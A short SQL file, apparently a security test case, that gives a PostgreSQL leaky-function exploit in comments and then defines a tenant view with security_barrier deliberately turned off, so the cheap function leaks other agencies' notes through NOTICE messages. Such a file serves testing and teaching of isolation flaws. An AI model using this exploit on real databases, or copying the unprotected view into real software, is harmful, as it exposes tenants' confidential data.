-- Tenant A reads the notes of all agencies in the errors of a cast: the view is no barrier.
-- about: app.notes
-- as: ho_agency_app
-- exploit: SET agency.id = '1';
-- exploit: CREATE FUNCTION pg_temp.look(t text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN
-- exploit: RAISE NOTICE 'saw %', t; RETURN true; END $$;
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_indexonlyscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT count(*) FROM app.notes WHERE pg_temp.look(body);
-- shows: saw note-secret
CREATE OR REPLACE VIEW app.notes WITH (security_barrier = false) AS
  SELECT * FROM core.notes WHERE agency_id = (SELECT app.agency()) AND app.agency() IS NOT NULL;
